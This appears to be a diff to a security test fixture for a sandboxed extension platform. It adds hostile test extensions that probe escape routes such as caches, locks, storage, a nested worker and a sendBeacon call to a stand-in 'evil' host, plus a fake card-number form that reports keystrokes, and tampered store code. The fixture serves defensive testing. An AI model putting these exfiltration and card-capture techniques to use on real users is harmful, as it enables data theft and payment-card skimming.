@@ -163,8 +163,15 @@ function ways(/** @type {string} */ evil, /** @type {number} */ udp) {
     ),
     attempt('beacon', () => (navigator.sendBeacon ? navigator.sendBeacon(`${evil}/beacon`) || none() : none())),
     attempt('indexeddb', () => event(indexedDB.open('x'), 'success', 'error')),
-    // WebKit has them for an origin that nobody has, too: they must be empty again with every frame.
-    attempt('caches', async () => (await caches.keys()).length > 0 || (await caches.open('x'), none())),
+    attempt('caches', () => caches.open('x')),
+    attempt('caches by their prototype', () => {
+      for (let at = self; at; at = Object.getPrototypeOf(at))
+        for (const [name, { get }] of Object.entries(Object.getOwnPropertyDescriptors(at)))
+          if (get && /cache/i.test(name)) return get.call(self).open('x');
+      return none();
+    }),
+    attempt('caches of a nested worker', () => inWorker(`caches.open('x').then(()=>postMessage('open'),postMessage)`)),
+    attempt('locks', () => navigator.locks.request('x', () => 1)),
     attempt('files', () => navigator.storage.getDirectory()),
     attempt('localStorage', () => (typeof localStorage === 'undefined' ? none() : localStorage.setItem('a', 'b'))),
     attempt('cookies', () => ('cookieStore' in self ? self.cookieStore.set('a', 'b') : none())),
@@ -261,16 +268,27 @@ function echo() {
   });
 }
 
-/** A form that looks like the one for cards, and tells what it hears. */
+/**
+ * A form that looks like the one for cards: in one field (5), in four (1 to 4), and in portions (8), with fields for words
+ * between (6 and 7). It tells what it hears, and by which number.
+ */
 function cardForm() {
+  let fn = 0;
   const field = (/** @type {string} */ id, /** @type {string} */ label) => ({
     ...self.node(id, 'text-field', { label, autocomplete: 'cc-number', type: 'password' }),
-    eventListeners: { input: { fn: 1 }, change: { fn: 1 } },
+    eventListeners: { input: { fn: (fn += 1) }, change: { fn } },
   });
-  self.draw(self.node('f', 'form', {}, [field('n', 'Card number'), field('c', 'Note')]));
-  self.hear((kind, call, _fn, payload) => {
+  const parts = ['p1', 'p2', 'p3', 'p4'].map((id) => field(id, 'Digits'));
+  self.draw(
+    self.node('f', 'form', {}, [
+      ...[field('number', 'Card number'), field('note', 'Note'), ...parts],
+      ...[field('more', 'Note'), field('portions', 'Digits, four by four')],
+    ]),
+  );
+  self.hear((kind, call, its, payload) => {
+    if (kind === 'message') self.say('mutate', [[3, 'portions', 'value', '']]);
     if (kind !== 'event') return;
-    self.say('action', 'heard', payload);
+    self.say('action', 'heard', [its, payload.value]);
     self.say('done', call);
   });
 }
@@ -299,6 +317,8 @@ const code = (/** @type {Function | null} */ body, /** @type {unknown[]} */ ...g
 /** @param {{ evil: string, udp: number, allowed: string }} places @returns {Record<string, string>} code by the extension's id */
 export const extensions = ({ evil, udp, allowed }) => ({
   hello: code(sayHello),
+  // The code of these is another one in the store than the manifest says: from the start, and after a while.
+  ...{ tampered: `${code(sayHello)}//1`, turncoat: `${code(sayHello)}//2` },
   vectors: code(vectors),
   ways: code(ways, evil, udp),
   echo: code(echo),
